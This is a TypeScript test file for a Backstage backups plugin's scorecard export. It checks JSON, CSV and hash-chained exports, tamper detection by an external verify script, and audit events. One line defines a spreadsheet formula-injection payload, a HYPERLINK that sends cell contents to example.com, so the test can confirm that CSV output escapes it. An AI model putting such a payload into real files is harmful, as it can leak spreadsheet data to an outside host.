import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import {
  createMockDirectory,
  mockServices,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import {
  ScorecardExport,
  ScorecardPage,
} from 'backstage-plugin-backups-common';
import request from 'supertest';
import { copiedApp } from '../../../__testUtils__/manifests';
import {
  componentEntity,
  permissionsThat,
  startBackups,
} from '../../../__testUtils__/startBackups';
import { BASE } from '../../__testUtils__/routeUrl';

const VERIFY = resolve(
  __dirname,
  '../../../../../../docs/examples/verify-evidence.mjs',
);
const NOW = '2026-08-22T10:00:00Z';
const COPIED = new Date('2026-08-22T09:30:00Z');
const FORMULA = '=HYPERLINK("https://example.com/?"&A1,"look")';

function digest(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** What this client takes for bytes. */
function asText(
  response: request.Response,
  done: (error: null, text: string) => void,
) {
  let text = '';
  response.on('data', chunk => {
    text += chunk;
  });
  response.on('end', () => done(null, text));
}

describe('the export', () => {
  const folder = createMockDirectory();

  async function start(permissions = permissionsThat(AuthorizeResult.ALLOW)) {
    folder.setContent({
      'all.json': JSON.stringify({
        kind: 'List',
        items: [
          ...copiedApp('radarr', COPIED),
          ...copiedApp('sonarr', COPIED),
          ...copiedApp('bazarr', new Date('2026-08-01T09:30:00Z')),
        ],
      }),
    });
    const audited: { eventId: string; meta?: unknown; outcome: string }[] = [];
    const auditor = mockServices.auditor.mock({
      createEvent: async ({ eventId }) => ({
        success: async options => {
          audited.push({ eventId, meta: options?.meta, outcome: 'success' });
        },
        fail: async () => {
          audited.push({ eventId, outcome: 'fail' });
        },
      }),
    });
    const sonarr = componentEntity('sonarr');
    const { server } = await startBackups({
      backups: {
        folders: [
          { cluster: 'home-1', path: folder.path, asOf: NOW, complete: true },
        ],
      },
      entities: [
        componentEntity('radarr'),
        componentEntity('bazarr'),
        { ...sonarr, metadata: { ...sonarr.metadata, title: FORMULA } },
      ],
      permissions,
      features: [auditor.factory],
    });
    return { server, audited };
  }

  it('has the numbers of the page for the same filter, and says what it was made from', async () => {
    const { server } = await start();
    const filter = 'verdict=protected&q=a';
    const page: ScorecardPage = (
      await request(server).get(`${BASE}/entities?${filter}`).expect(200)
    ).body;
    const response = await request(server)
      .get(`${BASE}/scorecard/export?${filter}&days=7`)
      .expect(200)
      .expect('content-disposition', /backups-2026-08-22\.json/);
    const { header, body }: ScorecardExport = response.body;
    expect(body.entities).toMatchObject(
      page.entities.map(({ sla, ...row }) => row),
    );
    expect(header).toMatchObject({
      now: page.now,
      clock: 'dump',
      coverage: page.coverage,
      query: 'verdict=protected&q=a',
      filter: { verdict: ['protected'], q: 'a' },
      scope: 'everything',
      requestedBy: 'user:default/mock',
      period: { days: 7, from: '2026-08-15', to: '2026-08-21' },
      ruleVersions: [{ version: '1', entities: body.entities.length }],
      sources: expect.arrayContaining([
        expect.objectContaining({ ageSeconds: 0, current: true }),
      ]),
    });
    expect(header.sha256).toBe(digest(JSON.stringify(body)));
  });

  it('writes a CSV whose digest is that of its table, and in which no name is a formula', async () => {
    const { server, audited } = await start();
    const { text: table } = await request(server)
      .get(`${BASE}/scorecard/export?format=csv&sort=name`)
      .expect(200)
      .expect('content-type', /text\/csv/);
    expect(table).toMatch(/^entity,title,owner,/);
    expect(table.trimEnd().split('\n')).toHaveLength(1 + 3);
    expect(table).toContain(`"'=HYPERLINK(`);
    expect(table).not.toMatch(/(^|,)"?[=+\-@\t]/m);
    expect(audited).toEqual([
      {
        eventId: 'scorecard-export',
        outcome: 'success',
        meta: {
          format: 'csv',
          query: 'sort=name',
          from: '2026-07-23',
          to: '2026-08-21',
          entities: 3,
          scope: 'everything',
          sha256: digest(table),
        },
      },
    ]);
  });

  it('is of any period that is over, and holds rules, drills and the table of the same instant', async () => {
    const { server } = await start();
    const { body: files } = await request(server)
      .get(
        `${BASE}/scorecard/export?format=files&from=2026-07-01&to=2026-09-30`,
      )
      .expect(200);
    // The portal has seen nothing before today, and says so.
    expect(files.header.period).toEqual({
      days: 52,
      from: '2026-07-01',
      to: '2026-08-21',
      observedDays: 0,
    });
    expect(files.header.csvSha256).toBe(digest(files.csv));
    expect(files.header.sha256).toBe(digest(JSON.stringify(files.body)));
    expect(files.body.drills).toEqual([]);
    expect(files.body.rules).toContainEqual(
      expect.objectContaining({
        entityRef: 'component:default/radarr',
        rule: 'covered',
        result: 'met',
      }),
    );
    const { body: refused } = await request(server)
      .get(`${BASE}/scorecard/export?from=2026-08-22`)
      .expect(400);
    expect(refused.error.message).toContain('no whole day that is over');
  });

  describe('day by day', () => {
    const kept = createMockDirectory();
    const DAYS = ['2026-08-19', '2026-08-20', '2026-08-21'];
    const heads: string[] = [];

    /** @returns what the script says of the files, as a user runs it */
    function verify(...args: string[]) {
      const { status, stdout, stderr } = spawnSync(
        process.execPath,
        [VERIFY, ...args],
        { encoding: 'utf8' },
      );
      return { status, said: stdout + stderr };
    }
    const files = () => DAYS.map(day => kept.resolve(`${day}.jsonl`));

    beforeEach(async () => {
      const { server } = await start();
      kept.clear();
      heads.length = 0;
      for (const day of DAYS) {
        const follows = heads.length > 0 ? `&previous=${heads.at(-1)}` : '';
        const { body } = await request(server)
          .get(
            `${BASE}/scorecard/export?format=chain&from=${day}&to=${day}${follows}`,
          )
          .buffer()
          .parse(asText)
          .expect(200);
        kept.addContent({ [`${day}.jsonl`]: body });
        heads.push(digest(body.trimEnd().split('\n').at(-1)));
      }
    });

    it('is one chain of several files, whose last head stands for all', () => {
      const { status, said } = verify(...files(), heads[2]);
      expect(said).toContain('in one chain of 3 files');
      expect(said).toContain(`${heads[2]}, as expected`);
      expect(status).toBe(0);
      // A day alone says that it follows another.
      expect(verify(files()[1]).said).toContain(`Follows:  ${heads[0]}`);
    });

    it('is not verified where one day was changed, or written anew, or is missing', () => {
      const [first, second, third] = files();
      const text = readFileSync(second, 'utf8');
      kept.addContent({
        '2026-08-20.jsonl': text.replace('default/sonarr', 'default/another'),
      });
      expect(verify(first, second, third)).toMatchObject({
        status: 1,
        said: expect.stringContaining('2026-08-20.jsonl: line'),
      });
      // Linked within itself again: the next day tells.
      let previous = heads[0];
      const forged = readFileSync(second, 'utf8')
        .trimEnd()
        .split('\n')
        .map(line => {
          const anew = JSON.stringify({ ...JSON.parse(line), previous });
          previous = digest(anew);
          return anew;
        });
      kept.addContent({ '2026-08-20.jsonl': `${forged.join('\n')}\n` });
      expect(verify(first, second).status).toBe(0);
      for (const told of [
        [first, second, third],
        [first, third],
        [second, first, third],
      ]) {
        expect(verify(...told)).toMatchObject({
          status: 1,
          said: expect.stringContaining('does not follow the file before it'),
        });
      }
    });
  });

  it('comes as a chain that is verified without the portal, and whose head is audited', async () => {
    const { server, audited } = await start();
    const chain = await request(server)
      .get(`${BASE}/scorecard/export?format=chain&sort=name`)
      .buffer()
      .parse(asText)
      .expect(200)
      .expect('content-disposition', /backups-2026-08-22\.jsonl/);
    const lines = chain.body.trimEnd().split('\n');
    expect(JSON.parse(lines[0]).record).toMatchObject({
      requestedBy: 'user:default/mock',
    });
    expect(audited).toMatchObject([{ meta: { sha256: digest(lines.at(-1)) } }]);
    const control = lines
      .map((line: string) => JSON.parse(line))
      .find(({ record }: any) => record.id === 'A.8.13').record;
    expect(control).toMatchObject({
      framework: 'ISO/IEC 27001:2022',
      supports: expect.arrayContaining([
        {
          part: 'entities',
          sentence: 'Apps of the catalog with what was found of them: 3.',
        },
      ]),
      notShown: expect.stringContaining('The policy itself is not in it.'),
    });
  });

  it('is audited when it is refused, too', async () => {
    const { server, audited } = await start(
      permissionsThat(AuthorizeResult.DENY),
    );
    await request(server).get(`${BASE}/scorecard/export`).expect(403);
    expect(audited).toEqual([{ eventId: 'scorecard-export', outcome: 'fail' }]);
  });
});
